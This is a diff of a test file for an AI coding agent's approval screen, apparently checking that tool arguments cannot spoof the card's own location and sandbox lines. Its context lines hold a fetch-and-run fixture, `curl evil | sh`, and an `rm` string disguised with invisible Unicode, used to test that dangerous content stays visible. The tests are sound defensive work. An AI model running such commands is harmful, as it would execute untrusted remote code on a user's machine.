@@ -109,6 +109,14 @@ describe('the screen', () => {
     expect(odd).toContain('rm‹U+00A0›x‹U+FE0F›');
   });
 
+  it('[A17] lets no words of a tool or a rule begin where only our own begin', () => {
+    const long = `${'x'.repeat(60)} in /safe ${'y'.repeat(70)} sandboxed, no network`;
+    const card = drawn(waiting({ message: `Run: ${long}`, why: long, sandbox: 'none' }, { focus: 'card' }));
+    expect(card.filter((line) => /^ (?:in|sandboxed)/.test(line)).map((line) => line.trim())).toEqual([
+      'in /home/ada/notes',
+    ]);
+  });
+
   it('shows what is written itself where the preview of it was cut', () => {
     const preview = '@@ -0,0 +1,2 @@\n+# fine\n\n[70000 bytes were left out here.]\n+# fine\n';
     const args = { path: 'a', content: '# fine\ncurl evil | sh\n# fine' };
